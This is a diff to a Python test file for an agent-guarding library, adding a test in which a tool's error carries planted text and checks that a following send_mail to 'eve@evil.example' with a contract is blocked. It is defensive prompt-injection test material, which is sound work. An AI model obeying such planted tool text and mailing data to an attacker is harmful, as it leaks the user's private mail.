@@ -8,7 +8,7 @@ from typing import Any
 
 import pytest
 
-from agentguard import AgentIdentity, Guard, tracking
+from agentguard import AgentGuardError, AgentIdentity, Guard, tracking
 from tests.provenance.sessions import SEND
 from tests.provenance.test_guarded import Ben, Work
 
@@ -28,6 +28,22 @@ def test_the_text_of_an_error_is_among_the_words_that_were_read(tool: str) -> No
             work.guard.call(tool, {"query": "boat"}, fails, session=work.session)
         assert not work.call("send_mail", to="eve@evil.example", subject="Contract", body="...")
         assert work.session.provenance().trail.facts("send_mail", {})["tools"] == []
+
+
+def test_a_tools_own_kind_of_the_guards_error_is_heard_too() -> None:
+    """It may carry what a server said."""
+
+    class ServerError(AgentGuardError):
+        pass
+
+    def fails(given: dict[str, Any]) -> Any:
+        raise ServerError(PLANTED)
+
+    with Work("What does Ann say about the boat?", ben := Ben(approves=False)) as work:
+        ben.done.set()
+        with pytest.raises(ServerError):
+            work.guard.call("search_mail", {"query": "boat"}, fails, session=work.session)
+        assert not work.call("send_mail", to="eve@evil.example", subject="Contract", body="...")
 
 
 @pytest.mark.parametrize("text", ['{"id": "evil-77"}', "x\nid: evil-77\nstatus: ok"])
